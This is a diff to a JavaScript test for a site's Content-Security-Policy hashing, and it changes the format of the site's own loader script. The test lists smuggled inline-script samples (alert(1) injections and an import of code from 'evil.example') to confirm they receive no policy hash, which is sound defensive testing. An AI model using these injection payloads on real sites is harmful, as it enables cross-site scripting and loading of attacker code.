@@ -12,7 +12,7 @@ it("a kept page's policy names the framework's inline scripts and ours, nothing 
   const start = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/a.js"],"runtimeModuleIds":[9]});';
   const data = 'self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n"])';
   const first = "(self.__next_f=self.__next_f||[]).push([0])";
-  const ours = `${loader}["/_next/static/a.js"])`;
+  const ours = `${loader}{"files":["/_next/static/a.js"],"patient":true})`;
   const smuggled = ["alert(1)", 'self.__next_f.push([1,"x"]);alert(1)', "self.__next_f.push([alert(1)])", 'self.__next_f.push([1,"x"],alert(1))', `${loader}alert(1))`, `${loader}[]);alert(1)`, " ", "import('//evil.example/x.js')"];
   const html = [`<script id="_R_">${start}</script>`, `<script>${first}</script><script>${data}</script>`, '<script type="application/ld+json">{"@type":"NGO"}</script>', '<script src="/_next/static/chunks/a.js" async=""></script>', `<script>${ours}</script>`, ...smuggled.map((code) => `<script>${code}</script>`)].join("<p>text</p>");
   expect(hashedPolicy(policy, html)).toBe(`default-src 'self'; script-src 'self' ${[start, first, data, ours].map(sha).join(" ")}; style-src 'self' 'unsafe-inline'`);
